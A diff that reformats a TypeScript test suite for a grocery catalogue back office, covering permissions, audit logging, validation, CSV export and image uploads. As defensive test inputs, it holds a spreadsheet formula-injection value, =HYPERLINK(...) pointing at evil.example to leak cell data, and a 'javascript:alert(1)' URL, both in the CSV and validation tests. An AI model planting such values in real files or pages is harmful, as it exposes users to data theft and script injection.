@@ -34,7 +34,8 @@ const unique = (prefix: string) => `${prefix}-${run}-${++serial}`;
 
 /** A department of the grocery catalogue (the seed's first). */
 const groceryDepartment = async () =>
-  (await server.db.kysely.selectFrom('departments').select('id').where('catalog', '=', 'grocery').orderBy('id').executeTakeFirstOrThrow()).id;
+  (await server.db.kysely.selectFrom('departments').select('id').where('catalog', '=', 'grocery').orderBy('id').executeTakeFirstOrThrow())
+    .id;
 
 const productBody = async (over: Record<string, unknown> = {}) => {
   const name = unique('Test Oat Milk');
@@ -73,7 +74,14 @@ const productBody = async (over: Record<string, unknown> = {}) => {
 const counts = async () => {
   const k = server.db.kysely;
   const n = async (table: 'audit_log' | 'products' | 'store_products' | 'promotions' | 'stores' | 'circulars') =>
-    Number((await k.selectFrom(table).select((eb) => eb.fn.countAll().as('n')).executeTakeFirstOrThrow()).n);
+    Number(
+      (
+        await k
+          .selectFrom(table)
+          .select((eb) => eb.fn.countAll().as('n'))
+          .executeTakeFirstOrThrow()
+      ).n,
+    );
   return {
     audit: await n('audit_log'),
     products: await n('products'),
@@ -85,7 +93,12 @@ const counts = async () => {
 };
 
 const shelf = (productId: number, storeId: number) =>
-  server.db.kysely.selectFrom('store_products').selectAll().where('product_id', '=', productId).where('store_id', '=', storeId).executeTakeFirst();
+  server.db.kysely
+    .selectFrom('store_products')
+    .selectAll()
+    .where('product_id', '=', productId)
+    .where('store_id', '=', storeId)
+    .executeTakeFirst();
 
 /** The concrete URL of a route: every :param an id that exists. */
 const concrete = (url: string) => url.replace(':entity', 'coupon').replace(/:[a-z_]+/g, '1001');
@@ -156,7 +169,9 @@ describe('catalogue back office: who may call it', () => {
     expect((await m.json('/wp-json/site/v1/site-settings/publish', { method: 'POST', body: {} })).status).toBe(403);
     expect((await m.get('/wp-json/site/v1/users')).status).toBe(403);
     expect((await m.json('/wp-json/site/v1/users/1/reset-link', { method: 'POST', body: {} })).status).toBe(403);
-    expect((await m.json('/wp-json/site/v1/content-blocks', { method: 'POST', body: { kind: 'site-banner', html: '<p>x</p>' } })).status).toBe(403);
+    expect(
+      (await m.json('/wp-json/site/v1/content-blocks', { method: 'POST', body: { kind: 'site-banner', html: '<p>x</p>' } })).status,
+    ).toBe(403);
     for (const screen of ['documents', 'users', 'content', 'templates']) expect((await m.page(`/admin/${screen}`)).status).toBe(403);
     expect((await m.get(`${B}/products?per_page=1`)).status).toBe(200);
   });
@@ -179,10 +194,22 @@ describe('catalogue back office: changes and the audit log', () => {
     const created = await m.json<Product>(`${B}/products`, { method: 'POST', body: await productBody() });
     expect(created.status).toBe(201);
     const id = created.body.id;
-    const changed = await m.json<Product>(`${B}/products/${id}`, { method: 'PUT', body: { ...(await productBody()), name: `${created.body.name} (renamed)`, slug: created.body.slug } });
+    const changed = await m.json<Product>(`${B}/products/${id}`, {
+      method: 'PUT',
+      body: { ...(await productBody()), name: `${created.body.name} (renamed)`, slug: created.body.slug },
+    });
     expect(changed.status).toBe(200);
-    expect((await m.json(`${B}/products/${id}/prices/1001`, { method: 'PUT', body: { price_cents: 429, member_price_cents: 399, available: true } })).status).toBe(200);
-    expect((await m.json(`${B}/products/${id}/prices/1001`, { method: 'PUT', body: { price_cents: 419, available: true } })).status).toBe(200);
+    expect(
+      (
+        await m.json(`${B}/products/${id}/prices/1001`, {
+          method: 'PUT',
+          body: { price_cents: 429, member_price_cents: 399, available: true },
+        })
+      ).status,
+    ).toBe(200);
+    expect((await m.json(`${B}/products/${id}/prices/1001`, { method: 'PUT', body: { price_cents: 419, available: true } })).status).toBe(
+      200,
+    );
     const promo = await m.json<{ id: number }>(`${B}/promotions`, {
       method: 'POST',
       body: { product_id: id, sale_price_cents: 349, start_date: '2026-01-01', end_date: '2099-12-31', store_ids: [1001] },
@@ -200,7 +227,15 @@ describe('catalogue back office: changes and the audit log', () => {
       'product:create',
     ]);
     for (const e of items) expect(e.user_name).toBe('Morgan Merchandiser');
-    const rows = await server.db.kysely.selectFrom('audit_log').select(['created_at', 'user_id']).where('id', 'in', items.map((e) => e.id)).execute();
+    const rows = await server.db.kysely
+      .selectFrom('audit_log')
+      .select(['created_at', 'user_id'])
+      .where(
+        'id',
+        'in',
+        items.map((e) => e.id),
+      )
+      .execute();
     for (const r of rows) {
       expect(Number(r.created_at)).toBeGreaterThanOrEqual(start - 1000);
       expect(r.user_id).not.toBeNull();
@@ -216,7 +251,12 @@ describe('catalogue back office: changes and the audit log', () => {
     const store = await m.get<{ items: Audit[] }>(`${B}/stores/1001/audit`);
     expect(store.body.items.filter((e) => e.entity_id === `1001:${id}`).map((e) => e.action)).toEqual(['update', 'create']);
     // The promotion's sale sits on the store's shelf row, where the shop reads it.
-    expect(await shelf(id, 1001)).toMatchObject({ sale_price_cents: 349, sale_end: '2099-12-31', promotion_id: promo.body.id, price_cents: 419 });
+    expect(await shelf(id, 1001)).toMatchObject({
+      sale_price_cents: 349,
+      sale_end: '2099-12-31',
+      promotion_id: promo.body.id,
+      price_cents: 419,
+    });
   });
 
   it('records a store with its holiday hours, and a department, a coupon, a circular and a recipe', async () => {
@@ -235,17 +275,41 @@ describe('catalogue back office: changes and the audit log', () => {
     expect(trail.body.items[0]).toMatchObject({ entity: 'store', action: 'create', before: null });
     expect((trail.body.items[0].after as { tax_rate_bp: number }).tax_rate_bp).toBe(725);
 
-    const dept = await m.json<{ id: number }>(`${B}/departments`, { method: 'POST', body: { title: unique('Plant milks'), slug: unique('plant-milks'), parent_id: await groceryDepartment(), position: 5, catalog: 'grocery' } });
+    const dept = await m.json<{ id: number }>(`${B}/departments`, {
+      method: 'POST',
+      body: {
+        title: unique('Plant milks'),
+        slug: unique('plant-milks'),
+        parent_id: await groceryDepartment(),
+        position: 5,
+        catalog: 'grocery',
+      },
+    });
     expect(dept.status).toBe(201);
     const product = await m.json<Product>(`${B}/products`, { method: 'POST', body: await productBody() });
     const coupon = await m.json<{ id: number }>(`${B}/coupons`, {
       method: 'POST',
-      body: { title: '50¢ off oat milk', discount_kind: 'amount', discount_value: 50, product_ids: [product.body.id], start_date: '2026-11-01', end_date: '2026-12-31', limit_per_order: 2 },
+      body: {
+        title: '50¢ off oat milk',
+        discount_kind: 'amount',
+        discount_value: 50,
+        product_ids: [product.body.id],
+        start_date: '2026-11-01',
+        end_date: '2026-12-31',
+        limit_per_order: 2,
+      },
     });
     expect(coupon.status).toBe(201);
     const circular = await m.json<{ id: number }>(`${B}/circulars`, {
       method: 'POST',
-      body: { title: 'Next week', slug: unique('next-week'), start_date: '2026-12-02', end_date: '2026-12-08', items: [{ product_id: product.body.id, sale_price_cents: 399 }], status: 'draft' },
+      body: {
+        title: 'Next week',
+        slug: unique('next-week'),
+        start_date: '2026-12-02',
+        end_date: '2026-12-08',
+        items: [{ product_id: product.body.id, sale_price_cents: 399 }],
+        status: 'draft',
+      },
     });
     expect(circular.status).toBe(201);
     const recipe = await m.json<{ id: number; course: string[] }>(`${B}/recipes`, {
@@ -272,7 +336,10 @@ describe('catalogue back office: changes and the audit log', () => {
       ['recipe', recipe.body.id],
     ] as const) {
       const t = await m.get<{ items: Audit[] }>(`${B}/audit/${entity}/${entityId}`);
-      expect(t.body.items.map((e) => e.action), entity).toEqual(['create']);
+      expect(
+        t.body.items.map((e) => e.action),
+        entity,
+      ).toEqual(['create']);
     }
   });
 });
@@ -291,7 +358,15 @@ const storeBody = (name: string, over: Record<string, unknown> = {}) => ({
   store_number: '140',
   time_zone: 'America/New_York',
   tax_rate_bp: 725,
-  hours: { mon: ['07:00', '22:00'], tue: ['07:00', '22:00'], wed: ['07:00', '22:00'], thu: ['07:00', '22:00'], fri: ['07:00', '23:00'], sat: ['08:00', '23:00'], sun: null },
+  hours: {
+    mon: ['07:00', '22:00'],
+    tue: ['07:00', '22:00'],
+    wed: ['07:00', '22:00'],
+    thu: ['07:00', '22:00'],
+    fri: ['07:00', '23:00'],
+    sat: ['08:00', '23:00'],
+    sun: null,
+  },
   holidays: [
     { day: '2026-12-25', open: null, close: null, note: 'Closed for Christmas' },
     { day: '2026-12-31', open: '07:00', close: '18:00' },
@@ -304,9 +379,16 @@ const storeBody = (name: string, over: Record<string, unknown> = {}) => ({
 });
 
 describe('catalogue back office: bad input answers 400 naming the field and writes nothing', () => {
-  const refuses = async (method: string, path: (ids: { product: number }) => string, body: (ids: { product: number }) => unknown, field: string) => {
+  const refuses = async (
+    method: string,
+    path: (ids: { product: number }) => string,
+    body: (ids: { product: number }) => unknown,
+    field: string,
+  ) => {
     const m = await signedInAs(server.url, 'merchandiser');
-    const product = (await m.json<Product>(`${B}/products`, { method: 'POST', body: await productBody({ upc: `0${Date.now()}`.slice(0, 12) }) })).body;
+    const product = (
+      await m.json<Product>(`${B}/products`, { method: 'POST', body: await productBody({ upc: `0${Date.now()}`.slice(0, 12) }) })
+    ).body;
     expect((await m.json(`${B}/products/${product.id}/prices/1001`, { method: 'PUT', body: { price_cents: 500 } })).status).toBe(200);
     const ids = { product: product.id };
     const before = await counts();
@@ -321,10 +403,20 @@ describe('catalogue back office: bad input answers 400 naming the field and writ
   };
 
   it('a negative price on a product', async () => {
-    await refuses('POST', () => `${B}/products`, () => productBody({ price_cents: -1 }), 'price_cents');
+    await refuses(
+      'POST',
+      () => `${B}/products`,
+      () => productBody({ price_cents: -1 }),
+      'price_cents',
+    );
   });
   it('a negative price at a store', async () => {
-    const { r } = await refuses('PUT', (i) => `${B}/products/${i.product}/prices/1001`, () => ({ price_cents: -250 }), 'price_cents');
+    const { r } = await refuses(
+      'PUT',
+      (i) => `${B}/products/${i.product}/prices/1001`,
+      () => ({ price_cents: -250 }),
+      'price_cents',
+    );
     expect(r.body.data.params?.price_cents).toBe('must not be negative');
   });
   it('a sale ending before it starts', async () => {
@@ -337,30 +429,96 @@ describe('catalogue back office: bad input answers 400 naming the field and writ
     expect(r.body.data.params?.end_date).toBe('must not be before the start date');
   });
   it('an unknown store id in a promotion, a price and a circular', async () => {
-    await refuses('POST', () => `${B}/promotions`, (i) => ({ product_id: i.product, sale_price_cents: 300, start_date: '2026-12-01', end_date: '2026-12-10', store_ids: [1001, 987654] }), 'store_ids');
-    await refuses('PUT', (i) => `${B}/products/${i.product}/prices/987654`, () => ({ price_cents: 300 }), 'store_id');
-    await refuses('POST', () => `${B}/circulars`, () => ({ title: 'Ad', slug: unique('ad'), start_date: '2026-12-01', end_date: '2026-12-07', store_ids: [987654], status: 'publish' }), 'store_ids');
+    await refuses(
+      'POST',
+      () => `${B}/promotions`,
+      (i) => ({
+        product_id: i.product,
+        sale_price_cents: 300,
+        start_date: '2026-12-01',
+        end_date: '2026-12-10',
+        store_ids: [1001, 987654],
+      }),
+      'store_ids',
+    );
+    await refuses(
+      'PUT',
+      (i) => `${B}/products/${i.product}/prices/987654`,
+      () => ({ price_cents: 300 }),
+      'store_id',
+    );
+    await refuses(
+      'POST',
+      () => `${B}/circulars`,
+      () => ({ title: 'Ad', slug: unique('ad'), start_date: '2026-12-01', end_date: '2026-12-07', store_ids: [987654], status: 'publish' }),
+      'store_ids',
+    );
   });
   it('a duplicate UPC', async () => {
     const m = await signedInAs(server.url, 'merchandiser');
     const upc = `7${Date.now()}`.slice(0, 12);
     expect((await m.json(`${B}/products`, { method: 'POST', body: await productBody({ upc }) })).status).toBe(201);
-    const { r } = await refuses('POST', () => `${B}/products`, () => productBody({ upc }), 'upc');
+    const { r } = await refuses(
+      'POST',
+      () => `${B}/products`,
+      () => productBody({ upc }),
+      'upc',
+    );
     expect(r.body.data.params?.upc).toMatch(/has the UPC/);
   });
   it('a sale price not below the shelf price, an unknown department, a member price above the price', async () => {
-    await refuses('POST', () => `${B}/promotions`, (i) => ({ product_id: i.product, sale_price_cents: 500, start_date: '2026-12-01', end_date: '2026-12-10', store_ids: [1001] }), 'sale_price_cents');
-    await refuses('POST', () => `${B}/products`, () => productBody({ department_id: 987654 }), 'department_id');
-    await refuses('PUT', (i) => `${B}/products/${i.product}/prices/1001`, () => ({ price_cents: 300, member_price_cents: 350 }), 'member_price_cents');
+    await refuses(
+      'POST',
+      () => `${B}/promotions`,
+      (i) => ({ product_id: i.product, sale_price_cents: 500, start_date: '2026-12-01', end_date: '2026-12-10', store_ids: [1001] }),
+      'sale_price_cents',
+    );
+    await refuses(
+      'POST',
+      () => `${B}/products`,
+      () => productBody({ department_id: 987654 }),
+      'department_id',
+    );
+    await refuses(
+      'PUT',
+      (i) => `${B}/products/${i.product}/prices/1001`,
+      () => ({ price_cents: 300, member_price_cents: 350 }),
+      'member_price_cents',
+    );
   });
   it('a canonical address on another site, or a javascript: one', async () => {
-    await refuses('POST', () => `${B}/products`, () => productBody({ seo: { canonical: 'https://elsewhere.example/x' } }), 'seo.canonical');
-    await refuses('POST', () => `${B}/products`, () => productBody({ seo: { canonical: 'javascript:alert(1)' } }), 'seo.canonical');
-    await refuses('POST', () => `${B}/products`, () => productBody({ seo: { title: 'x'.repeat(121) } }), 'seo.title');
+    await refuses(
+      'POST',
+      () => `${B}/products`,
+      () => productBody({ seo: { canonical: 'https://elsewhere.example/x' } }),
+      'seo.canonical',
+    );
+    await refuses(
+      'POST',
+      () => `${B}/products`,
+      () => productBody({ seo: { canonical: 'javascript:alert(1)' } }),
+      'seo.canonical',
+    );
+    await refuses(
+      'POST',
+      () => `${B}/products`,
+      () => productBody({ seo: { title: 'x'.repeat(121) } }),
+      'seo.title',
+    );
   });
   it('a store whose holiday closes before it opens, or with an unknown time zone', async () => {
-    await refuses('POST', () => `${B}/stores`, () => storeBody(unique('Bad hours'), { holidays: [{ day: '2026-12-24', open: '18:00', close: '07:00' }] }), 'holidays.0.close');
-    await refuses('POST', () => `${B}/stores`, () => storeBody(unique('Bad zone'), { time_zone: 'Mars/Olympus' }), 'time_zone');
+    await refuses(
+      'POST',
+      () => `${B}/stores`,
+      () => storeBody(unique('Bad hours'), { holidays: [{ day: '2026-12-24', open: '18:00', close: '07:00' }] }),
+      'holidays.0.close',
+    );
+    await refuses(
+      'POST',
+      () => `${B}/stores`,
+      () => storeBody(unique('Bad zone'), { time_zone: 'Mars/Olympus' }),
+      'time_zone',
+    );
   });
 });
 
@@ -368,7 +526,10 @@ describe('catalogue back office: CSV exports', () => {
   it('stores a name such as =HYPERLINK(…) as text and exports it with a leading apostrophe', async () => {
     const m = await signedInAs(server.url, 'merchandiser');
     const name = `=HYPERLINK("https://evil.example/?x="&A1,"Click") ${run}`;
-    const created = await m.json<Product>(`${B}/products`, { method: 'POST', body: await productBody({ name, slug: unique('hyperlink'), brand: '@SUM(1+1)', description: '+cmd', ingredients: '-2+3' }) });
+    const created = await m.json<Product>(`${B}/products`, {
+      method: 'POST',
+      body: await productBody({ name, slug: unique('hyperlink'), brand: '@SUM(1+1)', description: '+cmd', ingredients: '-2+3' }),
+    });
     expect(created.status).toBe(201);
     expect((await m.get<Product>(`${B}/products/${created.body.id}`)).body.name).toBe(name);
     const res = await m.raw(`${B}/products.csv?q=${encodeURIComponent(run)}&attribute=vegan`, { headers: { 'x-wp-nonce': m.nonce } });
@@ -419,21 +580,33 @@ describe('catalogue back office: single edits reach shoppers at once', () => {
   it('a price and a sale edited at 7 a.m. show on the next request of the shop API and of a cached page', async () => {
     const m = await signedInAs(server.url, 'merchandiser');
     const name = unique('Sunrise Granola');
-    const product = (await m.json<Product>(`${B}/products`, { method: 'POST', body: await productBody({ name, slug: name.toLowerCase().replace(/[^a-z0-9]+/g, '-') }) })).body;
+    const product = (
+      await m.json<Product>(`${B}/products`, {
+        method: 'POST',
+        body: await productBody({ name, slug: name.toLowerCase().replace(/[^a-z0-9]+/g, '-') }),
+      })
+    ).body;
     expect((await m.json(`${B}/products/${product.id}/prices/1001`, { method: 'PUT', body: { price_cents: 611 } })).status).toBe(200);
     const shopper = await visitorWithStore(server.url, 1001);
     const page = `/search?s=${encodeURIComponent(name)}`;
     // Twice: the second answer comes from the page cache.
     for (let i = 0; i < 2; i++) expect((await shopper.page(page)).html).toContain('$6.11');
     const api = async () =>
-      (await shopper.get<{ items: Array<{ id: number; price_cents: number; was_cents: number | null }> }>(`/api/shop/v1/products?store_id=1001&q=${encodeURIComponent(name)}`)).body.items[0];
+      (
+        await shopper.get<{ items: Array<{ id: number; price_cents: number; was_cents: number | null }> }>(
+          `/api/shop/v1/products?store_id=1001&q=${encodeURIComponent(name)}`,
+        )
+      ).body.items[0];
     expect(await api()).toMatchObject({ price_cents: 611, was_cents: null });
 
     expect((await m.json(`${B}/products/${product.id}/prices/1001`, { method: 'PUT', body: { price_cents: 589 } })).status).toBe(200);
     expect((await shopper.page(page)).html).toContain('$5.89');
     expect(await api()).toMatchObject({ price_cents: 589 });
 
-    const sale = await m.json(`${B}/promotions`, { method: 'POST', body: { product_id: product.id, sale_price_cents: 499, start_date: '2026-01-01', end_date: '2099-12-31', store_ids: [1001] } });
+    const sale = await m.json(`${B}/promotions`, {
+      method: 'POST',
+      body: { product_id: product.id, sale_price_cents: 499, start_date: '2026-01-01', end_date: '2099-12-31', store_ids: [1001] },
+    });
     expect(sale.status).toBe(201);
     const html = (await shopper.page(page)).html;
     expect(html).toContain('$4.99');
@@ -445,18 +618,25 @@ describe('catalogue back office: single edits reach shoppers at once', () => {
 describe('catalogue back office: images', () => {
   it('resizes an uploaded image to WebP sizes served with their widths, and refuses SVG and non-images', async () => {
     const m = await signedInAs(server.url, 'merchandiser');
-    const png = await sharp({ create: { width: 800, height: 600, channels: 3, background: { r: 240, g: 200, b: 40 } } }).png().toBuffer();
+    const png = await sharp({ create: { width: 800, height: 600, channels: 3, background: { r: 240, g: 200, b: 40 } } })
+      .png()
+      .toBuffer();
     const upload = async (body: Buffer, filename: string, type: string) => {
       const form = new FormData();
       form.append('file', new Blob([new Uint8Array(body)], { type }), filename);
       const res = await m.raw(`${B}/images`, { method: 'POST', body: form });
-      return { status: res.status, body: (await res.json()) as { image: { key: string; width: number; height: number }; srcset: string } & ErrorBody };
+      return {
+        status: res.status,
+        body: (await res.json()) as { image: { key: string; width: number; height: number }; srcset: string } & ErrorBody,
+      };
     };
     const ok = await upload(png, 'banana.png', 'image/png');
     expect(ok.status).toBe(201);
     expect(ok.body.image).toMatchObject({ width: 800, height: 600 });
     const key = ok.body.image.key;
-    expect(ok.body.srcset).toBe(`/media/catalogue/${key}-160.webp 160w, /media/catalogue/${key}-320.webp 320w, /media/catalogue/${key}-640.webp 640w`);
+    expect(ok.body.srcset).toBe(
+      `/media/catalogue/${key}-160.webp 160w, /media/catalogue/${key}-320.webp 320w, /media/catalogue/${key}-640.webp 640w`,
+    );
     const served = await new Client(server.url).raw(`/media/catalogue/${key}-320.webp`);
     expect(served.status).toBe(200);
     expect(served.headers.get('content-type')).toBe('image/webp');
@@ -471,10 +651,16 @@ describe('catalogue back office: images', () => {
     expect(text.status).toBe(400);
 
     // The product keeps {key, alt, width, height}; an unknown key is refused.
-    const product = await m.json<Product>(`${B}/products`, { method: 'POST', body: await productBody({ images: [{ key, alt: 'Oat milk carton', width: 800, height: 600 }] }) });
+    const product = await m.json<Product>(`${B}/products`, {
+      method: 'POST',
+      body: await productBody({ images: [{ key, alt: 'Oat milk carton', width: 800, height: 600 }] }),
+    });
     expect(product.status).toBe(201);
     expect(product.body.images).toEqual([{ key, alt: 'Oat milk carton', width: 800, height: 600 }]);
-    const unknown = await m.json<ErrorBody>(`${B}/products`, { method: 'POST', body: await productBody({ images: [{ key: 'abcdefgh-123456', alt: '', width: 10, height: 10 }] }) });
+    const unknown = await m.json<ErrorBody>(`${B}/products`, {
+      method: 'POST',
+      body: await productBody({ images: [{ key: 'abcdefgh-123456', alt: '', width: 10, height: 10 }] }),
+    });
     expect(unknown.status).toBe(400);
     expect(unknown.body.data.params?.['images.0.key']).toBeDefined();
   });
